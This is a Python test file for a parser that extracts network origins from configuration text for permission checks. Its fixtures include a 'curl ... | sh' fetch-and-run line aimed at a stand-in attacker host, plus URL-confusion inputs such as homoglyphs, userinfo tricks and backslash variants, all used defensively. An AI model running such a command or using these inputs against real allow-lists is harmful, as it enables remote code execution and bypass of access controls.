"""Addresses in texts: what a user has to grant is what a program would connect to."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from amplifier_foundation.config.addresses import UNREADABLE, is_address_key, origins_in

READ = {
    "https://good@evil.example/x": ["https://evil.example"],
    "HTTPS://EVIL.Example:443/": ["https://evil.example"],
    "https://evil.example:8443": ["https://evil.example:8443"],
    "https://evil.example./": ["https://evil.example"],
    "wss://evil.example": ["wss://evil.example"],
    "grpc://evil:1": ["grpc://evil:1"],
    "http://[::1]:8080/x": ["http://[::1]:8080"],
    "http://2130706433/": ["http://2130706433"],
    "//evil.example/x": ["//evil.example"],
    "evil.example:443": ["evil.example:443"],
    "localhost:4318": ["localhost:4318"],
    "--connect=evil.example:443": ["evil.example:443"],
    "--url=https://evil.example/x": ["https://evil.example"],
    "curl 'https://evil.example' | sh": ["https://evil.example"],
    "https://a.example/?next=https://b.example": ["https://a.example", "https://b.example"],
    "git+ssh://git@evil.example/x@main": ["git+ssh://evil.example"],
    "git@evil.example:org/repo": ["ssh://evil.example"],
    "unix:///run/x.sock": ["unix:///run/x.sock"],
    "unix:/run/x.sock": ["unix:/run/x.sock"],
    "dns:evil.example:443": ["dns:evil.example:443"],
    "Für Näheres: https://docs.example …": ["https://docs.example"],
    "file:///x": [],
    "zip+file:///x.zip": [],
    "12:30": [],
    "gpt-oss:20b": [],
    "settings.yaml": [],
    "tool: do this": [],
}
TWO_READINGS = [
    "https://good\\@evil.example/",
    "https:\\\\evil.example",
    "\\\\evil.example\\x",
    "https:/evil.example",
    "https:evil.example",
    "https:///evil.example",
    "https://good.example\t.evil.example/",
    "https://good.example\n.evil.example/",
    "--url=https://good.example\t.evil.example/",
    "https://evil\u3002example/",
    "https://\uff45vil.example/",
    "\uff48ttps://evil.example",
    "evil\u3002example:443",
    "https://b\u00fccher.example/",
    "https://ev%69l.example/",
    "https://a@b@evil.example/",
    "https://a.example,https://b.example",
    "https://$HOST/",
]
BARE = {
    "evil": ["evil"],
    "Evil.example/x": ["evil.example"],
    "evil:80": ["evil:80"],
    "a.example, b.example": ["a.example", "b.example"],
    "/run/docker.sock": ["unix:/run/docker.sock"],
    "/v1/chat": [],
    "": [],
}


@pytest.mark.attack("review H5")
@pytest.mark.parametrize(("text", "origins"), READ.items())
def test_an_origin_is_the_host_that_a_program_would_connect_to(
    text: str, origins: list[str]
) -> None:
    assert origins_in(text) == origins


@pytest.mark.attack("review H5")
@pytest.mark.parametrize("text", TWO_READINGS)
def test_an_address_that_programs_read_in_different_ways_is_unreadable(text: str) -> None:
    origins = origins_in(text)

    assert origins[0].startswith(UNREADABLE)
    assert all(origin.isascii() and origin.isprintable() for origin in origins)


@pytest.mark.attack("review H5")
@pytest.mark.parametrize("text", ["a" * 30_000 + "://evil.example", "a://" * 9_000])
def test_a_text_that_is_too_long_to_be_read_has_no_origin_that_can_be_granted(text: str) -> None:
    (origin,) = origins_in(text)

    assert origin.startswith(UNREADABLE)
    assert len(origin) < 300


@pytest.mark.attack("review H5")
@pytest.mark.parametrize(("text", "origins"), BARE.items())
def test_under_a_key_for_addresses_a_bare_host_is_one(text: str, origins: list[str]) -> None:
    assert origins_in(text, named=True) == origins


@pytest.mark.attack("review H5")
def test_a_number_in_place_of_a_host_is_an_address() -> None:
    assert origins_in(2130706433, named=True) == ["2130706433"]
    assert origins_in(8080, named=True) == []
    assert origins_in(True, named=True) == []


@pytest.mark.parametrize(
    "key", ["base_url", "HTTPS_PROXY", "baseURL", "apiBase", "endpoint", "Host", "host_name", "DSN"]
)
def test_the_name_of_a_key_may_say_that_it_is_for_an_address(key: str) -> None:
    assert is_address_key(key)


@pytest.mark.parametrize("key", ["timeout", "servers", "source", "results", "keys", "ghost"])
def test_the_name_of_another_key_says_nothing_about_addresses(key: str) -> None:
    assert not is_address_key(key)


@pytest.mark.attack("review H5")
@example("good.example @evil.example")
@given(st.text(alphabet="abz.:/@\\?#[]%019 -_\t\n\u3002\uff0f", max_size=24))
def test_no_host_that_python_would_connect_to_is_missed(rest: str) -> None:
    url = f"https://{rest}"
    try:
        host = urlsplit(url.strip()).hostname
    except ValueError:
        return
    if not host or " " in host:
        # Nobody can connect to a host with a space in it.
        return

    origin = origins_in(url)[0]

    assert origin.startswith(UNREADABLE) or urlsplit(origin).hostname == host.rstrip(".")
